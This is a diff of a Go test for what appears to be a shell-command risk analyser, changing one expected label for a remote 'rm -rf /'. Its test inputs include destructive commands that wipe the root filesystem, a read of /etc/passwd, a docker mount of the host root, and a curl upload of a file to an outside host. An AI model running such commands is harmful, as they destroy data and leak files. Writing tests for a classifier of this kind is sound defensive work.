@@ -46,7 +46,7 @@ func TestFacts(t *testing.T) {
 		"cat ${X:-/etc/passwd}":                     "cat[execute read unclear] r:/etc/passwd ?which path is meant is not known",
 		"echo 'rm -rf /' | sh":                      "echo[execute] | rm[execute delete] d:/",
 		`f() { rm -rf "$1"; }; f /`:                 "rm[execute delete] d:/",
-		"ssh host rm -rf /":                         "ssh[execute network] @host | rm[execute delete]",
+		"ssh host rm -rf /":                         "ssh[execute network] @host | rm[execute delete unclear] ?the file is elsewhere",
 		"docker run -v /:/host alpine sh":           "docker[execute read write privilege container] r:/ w:/",
 		"npm ci":                                    "npm[execute read write project_code network dependencies] r:/p",
 		"curl -d @a http://e.com":                   "curl[execute read network upload] r:/p/a @e.com",
